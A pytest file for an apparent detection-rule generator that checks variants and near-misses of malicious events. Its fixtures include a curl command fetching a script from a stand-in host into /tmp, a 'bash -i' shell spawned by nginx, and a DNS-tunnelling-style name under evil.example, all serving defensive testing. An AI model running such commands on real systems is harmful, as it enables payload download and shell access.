"""Variants of examples stay attacks, near-misses are none; both follow from the examples and nothing else."""

from pathlib import Path

import pytest

from ruleforge.cases.event_variants import (
    OF_THE_NAME,
    REVERSED,
    event_near_misses,
    event_variants,
    same_words,
    with_values,
)
from ruleforge.events.event import Event, make_event
from ruleforge.events.kinds import EVENTS
from ruleforge.ingest.event_cases import read_case
from ruleforge.records.event_case import Example

CASES = sorted((Path(__file__).resolve().parents[2] / "examples" / "events").glob("*.yaml"))


def example(kind: str, **fields: str) -> Example:
    given = {name.replace("__", "."): value for name, value in fields.items()}
    return Example("x", (make_event(kind, given, time_us=0, id="x:0", source="x"),))  # type: ignore[arg-type]


def values(item: object, field: str) -> bytes:
    assert isinstance(item, Event)
    return item.values[field][0].value


def varied(one: Example, kind: str) -> dict[str, Example]:
    return {variant.how: variant.example for variant in event_variants([one], EVENTS[kind])}


@pytest.mark.parametrize("file", CASES, ids=lambda file: file.stem)
def test_the_same_examples_have_the_same_variants(file: Path) -> None:
    case = read_case(file)
    if case.event == "http.request":
        return
    kind = EVENTS[case.event]
    assert event_variants(case.malicious, kind) == event_variants(case.malicious, kind)
    made = event_variants(case.malicious, kind)
    assert made
    assert all(one.example.items != case.malicious[one.poc].items for one in made)
    known = [list(example.items) for example in case.malicious]
    assert all(list(one.example.items) not in known for one in event_near_misses(case.malicious, kind))


def test_a_command_is_written_in_other_ways() -> None:
    line = "curl -s http://203.0.113.9:8080/a -o /tmp/a.sh"
    made = varied(example("process", process__name="curl", process__command_line=line, user="ada"), "process")
    field = "process.command_line"
    assert values(made["other_host"].items[0], field) == b"curl -s http://203.0.113.77:48123/a -o /tmp/a.sh"
    assert values(made["other_file"].items[0], field).endswith(b"/tmp/.cache-9")
    assert values(made["quoted"].items[0], field).endswith(b'"/tmp/a.sh"')
    assert values(made["full_path"].items[0], field).startswith(b"/usr/local/bin/curl ")
    assert values(made["other_account"].items[0], "user") != b"ada"
    assert "case" not in made


def test_everybody_is_no_address_to_be_changed() -> None:
    fields = {"request": {"/cidr": "0.0.0.0/0"}}
    one = Example("x", (make_event("cloud_api", fields, time_us=0, id="x:0", source="x"),))
    assert "other_host" not in varied(one, "cloud_api")


def test_windows_does_not_care_for_case() -> None:
    made = varied(example("process", process__name="cmd.exe", process__command_line="cmd.exe /c ver"), "process")
    assert values(made["case"].items[0], "process.name") == b"CMD.EXE"


def test_names_of_dns_get_other_data_and_another_domain_of_the_same_look() -> None:
    name = "0123456789abcdef0123.www.evil.example"
    made = varied(example("dns", question__name=name, question__domain="evil.example"), "dns")
    other = values(made["other_data"].items[0], "question.name").split(b".")
    assert other[1:] == name.encode().split(b".")[1:]
    assert len(other[0]) == 20
    assert set(other[0]) <= set(b"0123456789abcdef")
    moved = made["other_domain"].items[0]
    assert values(moved, "question.name").endswith(values(moved, "question.domain"))
    assert values(moved, "question.domain") != b"evil.example"


def test_a_known_account_stays_what_it_is() -> None:
    made = varied(example("auth_log", user="root", source__address="192.0.2.1"), "auth_log")
    assert values(made["other_account"].items[0], "user") == b"root"
    assert values(made["other_account"].items[0], "source.address").startswith(b"198.51.100.")


def test_streams_get_slower_lose_events_and_are_taken_apart() -> None:
    case = read_case(next(file for file in CASES if file.stem == "auth-guessing"))
    kind = EVENTS["auth_log"]
    made = {one.how: one.example for one in event_variants(case.malicious[:1], kind)}
    near = {one.how: one.example for one in event_near_misses(case.malicious[:1], kind)}
    assert len(made["some_lost"].items) == 24
    times = [item.time_us for item in made["slower"].items if isinstance(item, Event) and item.time_us is not None]
    assert times[-1] - times[0] == int(58_000_000 * 1.4)
    assert len(near["few"].items) == 9
    assert len({values(item, "source.address") for item in near["many_sources"].items}) > 20
    assert set(near) == {"few", "much_slower", "many_sources", REVERSED, "other_call", "succeeded"}
    assert {values(item, "action") for item in near["other_call"].items} <= {b"session", b"disconnect"}
    assert {values(item, "outcome") for item in near["succeeded"].items} == {b"success"}
    assert not any(item.values.get("reason") for item in near["succeeded"].items if isinstance(item, Event))


def test_a_mention_of_a_command_is_no_command() -> None:
    one = example("process", process__name="bash", process__command_line="bash -i", parent__name="nginx")
    near = {miss.how: miss.example for miss in event_near_misses([one], EVENTS["process"])}
    assert values(near["mention"].items[0], "process.name") == b"grep"
    assert b"bash -i" in values(near["mention"].items[0], "process.command_line")
    assert values(near["help"].items[0], "process.command_line") == b"bash --help"
    assert {"same_domain", "other_domain"} == OF_THE_NAME


def test_whose_an_event_is_makes_it_no_other() -> None:
    one = example("auth_log", action="login", outcome="failure", user="ada", source__address="192.0.2.1")
    other = example("auth_log", action="login", outcome="failure", user="bob", source__address="192.0.2.9")
    root = example("auth_log", action="login", outcome="failure", user="root")
    assert same_words(one, other, EVENTS["auth_log"])
    assert not same_words(one, root, EVENTS["auth_log"])


def test_values_are_put_and_taken_away() -> None:
    (event,) = example("dns", question__name="a.example", question__type="A").items
    assert isinstance(event, Event)
    changed = with_values(event, {"question.name": b"b.example", "question.type": b""})
    assert values(changed, "question.name") == b"b.example"
    assert "question.type" not in changed.values


def test_the_same_name_again_and_again_carries_no_data() -> None:
    case = read_case(next(file for file in CASES if file.stem == "dns-tunnel"))
    near = {one.how: one.example for one in event_near_misses(case.malicious[:1], EVENTS["dns"])}
    assert len({values(item, "question.name") for item in near["same_name"].items}) == 1
    assert len(near["same_name"].items) == len(case.malicious[0].items)
